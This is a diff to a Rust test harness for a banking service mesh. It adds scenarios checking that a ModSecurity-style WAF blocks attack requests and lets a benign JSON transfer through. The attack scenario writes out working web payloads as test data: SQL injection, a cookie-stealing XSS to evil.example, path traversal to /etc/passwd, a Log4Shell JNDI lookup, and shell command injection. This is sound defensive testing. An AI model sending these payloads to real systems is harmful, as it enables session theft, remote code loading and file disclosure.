@@ -92,6 +92,12 @@ impl Send {
         }
     }
 
+    /// A POST of a JSON body, with its `content-type` (the mesh's WAF, CRS at paranoia
+    /// level 1, denies a body without one: rules 920340 and 920640).
+    pub fn json(caller: Workload, path: &str, body: &[u8]) -> Send {
+        Send::post(caller, path, body).header("content-type", "application/json")
+    }
+
     pub fn header(mut self, name: &str, value: &str) -> Send {
         self.headers.push((name.to_string(), value.to_string()));
         self
@@ -316,6 +322,11 @@ pub fn harness_request(mesh: &Mesh, send: &Send, worker: usize) -> anyhow::Resul
         .worker(worker);
     for (k, v) in &send.headers {
         request = request.header(k, v);
+    }
+    // The framing header the wire client writes (`client.rs`), which Envoy hands to the
+    // filters: without it the WAF would see a POST with no Content-Length (CRS 920180).
+    if !send.body.is_empty() || matches!(send.method, "POST" | "PUT" | "PATCH") {
+        request = request.header("content-length", &send.body.len().to_string());
     }
     if !send.body.is_empty() {
         request = request.body(send.body.clone());
@@ -931,7 +942,7 @@ pub fn burst_beyond_the_limit_is_rejected() -> Scenario {
         callee: BANK_A_API,
         requests: (0..BURST_REQUESTS)
             .map(|_| {
-                Send::post(
+                Send::json(
                     BANK_A_WEB,
                     "/accounts/42/transfers",
                     br#"{"amount":"10.00"}"#,
@@ -1035,6 +1046,8 @@ pub fn all() -> Vec<Scenario> {
         shared_service_accepts_an_authenticated_caller(),
         shared_workload_calling_a_bank_is_denied(),
         public_path_is_open_but_cannot_be_stretched(),
+        web_attacks_are_blocked_by_the_waf(),
+        a_benign_json_transfer_passes_the_waf(),
     ]
 }
 
@@ -1043,7 +1056,7 @@ pub fn shared_service_accepts_an_authenticated_caller() -> Scenario {
     Scenario {
         name: "shared_service_accepts_an_authenticated_caller",
         callee: SHARED_LOGGING,
-        requests: vec![Send::post(BANK_A_API, "/v1/logs", br#"{"line":"hello"}"#)
+        requests: vec![Send::json(BANK_A_API, "/v1/logs", br#"{"line":"hello"}"#)
             .authority("logging.shared.svc.cluster.local")],
         volatile: AUDIT_VOLATILE,
         refill: None,
@@ -1089,6 +1102,106 @@ pub fn public_path_is_open_but_cannot_be_stretched() -> Scenario {
             expect_reached(o, 0, true)?;
             expect_status(o, 1, 403)?;
             expect_reached(o, 1, false)
+        },
+    }
+}
+
+/// What the WAF's local reply says (`filters/waf/README.md`): the JSON `error`.
+pub const WAF_BLOCKED: &str = "request blocked by the WAF";
+
+/// Request `i` was answered by the WAF: 403, the upstream never reached, the WAF's JSON
+/// body naming CRS's inbound anomaly-score rule (949110: at paranoia level 1 the attacks
+/// below are blocked on their score, not by one rule), and the response-code details
+/// `meshward_waf_denied` (Envoy's `%RESPONSE_CODE_DETAILS%`; the harness's local reply).
+fn expect_waf_denied(o: &[Observed], i: usize) -> Result<(), String> {
+    expect_status(o, i, 403)?;
+    expect_reached(o, i, false)?;
+    expect_json_local_reply(o, i)?;
+    let got = &o[i];
+    let body: serde_json::Value = serde_json::from_slice(&got.body).unwrap_or_default();
+    if got.error().as_deref() != Some(WAF_BLOCKED) || body["reason"] != "rule 949110" {
+        return Err(format!(
+            "request {i}: not the WAF's anomaly-score block: {}",
+            String::from_utf8_lossy(&got.body)
+        ));
+    }
+    if got.details.as_deref() != Some("meshward_waf_denied") {
+        return Err(format!(
+            "request {i}: response-code details {:?}, expected meshward_waf_denied",
+            got.details
+        ));
+    }
+    Ok(())
+}
+
+/// The attacks of `scenarios/bank-mesh.jsonl`, from a caller the tenant filter
+/// admits (so only the WAF stands in the way): each is answered 403 by the WAF
+/// (CRS at paranoia level 1, blocking, as `wasmplugins/base/waf.yaml` configures
+/// it) before it reaches the upstream. Request bodies are inspected: the XSS is in
+/// a JSON body, the command injection in a form.
+pub fn web_attacks_are_blocked_by_the_waf() -> Scenario {
+    Scenario {
+        name: "web_attacks_are_blocked_by_the_waf",
+        callee: BANK_A_API,
+        requests: vec![
+            // SQL injection in the query string.
+            Send::get(BANK_A_WEB, "/accounts?id=1%27%20OR%20%271%27%3D%271"),
+            // XSS in a JSON body.
+            Send::json(
+                BANK_A_WEB,
+                "/v1/messages",
+                br#"{"subject": "hi", "text": "<script>document.location='https://evil.example/?c='+document.cookie</script>"}"#,
+            ),
+            // Path traversal, encoded so that no path normalization resolves it.
+            Send::get(BANK_A_WEB, "/statements/..%2f..%2f..%2fetc%2fpasswd"),
+            // Log4Shell in a header.
+            Send::get(BANK_A_WEB, "/accounts/42").header("user-agent", "${jndi:ldap://evil.example/a}"),
+            // OS command injection in a form body.
+            Send::post(BANK_A_WEB, "/reports/export", b"format=pdf%3Bcat%20/etc/passwd")
+                .header("content-type", "application/x-www-form-urlencoded"),
+            // A scanner's User-Agent.
+            Send::get(BANK_A_WEB, "/accounts/42")
+                .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ],
+        volatile: AUDIT_VOLATILE,
+        refill: None,
+        expect: |_, o| {
+            for i in 0..6 {
+                expect_waf_denied(o, i)?;
+            }
+            Ok(())
+        },
+    }
+}
+
+/// A JSON transfer with IBANs, an amount and free text passes CRS at paranoia
+/// level 1 untouched: the WAF reads the whole body (it holds it until the end of
+/// the stream) and the upstream gets the body as sent, with the signed audit
+/// header of an allowed caller.
+pub fn a_benign_json_transfer_passes_the_waf() -> Scenario {
+    const BODY: &[u8] = br#"{"from": "DE89370400440532013000", "to": "FR1420041010050500013M02606", "amount": "125.50", "currency": "EUR", "reference": "Invoice 2024-113"}"#;
+    Scenario {
+        name: "a_benign_json_transfer_passes_the_waf",
+        callee: BANK_A_API,
+        requests: vec![Send::json(BANK_A_WEB, "/transfers", BODY)
+            .header("user-agent", "bank-a-web/2.3")
+            .header("accept", "application/json")],
+        volatile: AUDIT_VOLATILE,
+        refill: None,
+        expect: |mesh, o| {
+            expect_status(o, 0, 200)?;
+            expect_reached(o, 0, true)?;
+            let upstream = o[0].upstream.as_ref().map(|u| u.body.as_slice());
+            if upstream != Some(BODY) {
+                return Err(format!(
+                    "the upstream got the body {:?}",
+                    upstream.map(String::from_utf8_lossy)
+                ));
+            }
+            if o[0].details.as_deref() != Some("via_upstream") {
+                return Err(format!("response-code details {:?}", o[0].details));
+            }
+            expect_audited_as(mesh, o, 0, BANK_A_WEB, "same_tenant")
         },
     }
 }
